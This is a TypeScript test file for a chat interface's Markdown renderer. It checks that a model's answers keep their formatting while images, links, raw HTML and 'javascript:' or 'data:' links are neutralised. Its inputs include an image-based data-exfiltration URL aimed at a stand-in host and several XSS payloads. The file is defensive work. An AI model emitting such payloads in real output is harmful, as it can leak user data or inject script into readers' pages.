// What a model's Markdown may turn into: formatting yes; nothing that loads,
// navigates or runs. Rendered to HTML the way React would put it on the page.
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown answers', () => {
  it('formats: emphasis, lists, code blocks and tables', () => {
    const out = html(
      '**bold** and `x`\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
    );
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('<code>x</code>');
    expect(out).toMatch(/<ul>\s*<li>one<\/li>/);
    expect(out).toContain('<pre><code class="language-js">let a = 1;\n</code></pre>');
    expect(out).toContain('<table>');
  });

  it('never renders an image: a remote picture becomes a labelled link that asks first', () => {
    const out = html('look ![x](http://example.invalid/leak?d=secret) here');
    expect(out).not.toMatch(/<img/i);
    expect(out).not.toMatch(/\ssrc=/i);
    expect(out).toContain('data-image-not-loaded');
    expect(out).toContain('Picture not loaded: x');
    expect(out).toMatch(
      /<button type="button" class="chat-md-link"[^>]*>http:\/\/example\.invalid\/leak\?d=secret/,
    );
  });

  it('gives links no href: each is a button that opens the confirmation', () => {
    const out = html('see [the docs](https://example.com/docs) or https://example.org/x');
    expect(out).not.toMatch(/<a[\s>]/i);
    expect(out).not.toMatch(/href=/i);
    expect(out.match(/class="chat-md-link"/g)).toHaveLength(2);
    expect(out).toContain('title="https://example.com/docs"');
  });

  it('shows raw HTML as the text it is, never as markup', () => {
    const out = html('hi <script>alert(1)</script> <img src=x onerror=alert(2)> <b>b</b>');
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/<img/i);
    expect(out).not.toMatch(/<b>/);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=alert(2)&gt;');
  });

  it('drops dangerous link schemes before anything can ask to open them', () => {
    const out = html('[click](javascript:alert(1)) [data](data:text/html,<b>x</b>)');
    expect(out).not.toMatch(/javascript:/i);
    expect(out).not.toMatch(/data:text/i);
  });
});
